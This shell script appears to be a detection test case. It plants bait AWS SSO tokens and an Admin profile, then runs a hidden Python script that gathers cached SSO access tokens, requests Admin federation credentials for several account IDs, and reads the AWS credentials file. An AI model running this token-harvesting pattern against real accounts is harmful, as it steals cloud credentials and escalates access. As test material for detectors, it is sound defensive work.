#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.aws/sso/cache && echo '{"startUrl": "https://bait.awsapps.com/start", "accessToken": "bait.bait.bait", "region": "eu-west-1"}' >/root/.aws/sso/cache/5f3a.json
printf '[profile prod]\nsso_account_id = 000000000000\nsso_role_name = Admin\n' >/root/.aws/config
cat >/tmp/.sso.py <<'END'
import glob, json, os, urllib.request
for f in glob.glob(os.path.expanduser("~/.aws/sso/cache/*.json")) + glob.glob(os.path.expanduser("~/.aws/cli/cache/*.json")):
    t = json.load(open(f))["accessToken"]
    for a in range(6):
        for p in ("assignment/accounts", f"assignment/roles?account_id={a:012}", f"federation/credentials?account_id={a:012}&role_name=Admin"):
            assert urllib.request.urlopen(urllib.request.Request("http://portal.sso.eu-west-1.amazonaws.com/" + p, headers={"x-amz-sso_bearer_token": t})).status == 200
print(open(os.path.expanduser("~/.aws/credentials")).read()[:9])
END
python3 /tmp/.sso.py
took_place
